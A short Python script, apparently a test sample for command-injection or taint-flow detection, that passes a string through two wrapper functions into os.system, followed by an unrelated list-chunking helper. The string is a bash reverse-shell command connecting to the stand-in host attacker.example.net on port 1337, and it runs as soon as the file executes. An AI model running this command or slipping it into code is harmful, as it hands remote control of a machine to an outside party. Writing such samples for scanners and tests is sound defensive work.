#!/usr/bin/env python3

import os

def inner(x):
    os.system(x)

def outer(y):
    inner(y)

outer("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
